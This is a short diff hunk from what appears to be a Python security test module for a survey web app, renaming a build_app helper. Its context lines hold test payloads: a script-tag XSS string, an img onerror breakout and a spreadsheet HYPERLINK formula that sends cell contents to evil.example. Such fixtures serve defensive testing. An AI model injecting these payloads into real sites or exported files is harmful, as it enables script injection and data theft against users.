@@ -17,7 +17,7 @@ SCRIPT = "<script>alert('xss')</script>"
 IMG = '"><img src=x onerror=alert(1)>'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
 
-def build_app(url, **config):
+def build_security_app(url, **config):
     """The app over a database with the fieldwork edition, staff accounts and two mini units
     (`m1` with RESPONDENT_CODE, `m2` with OTHER_CODE)."""
     add_edition(url)
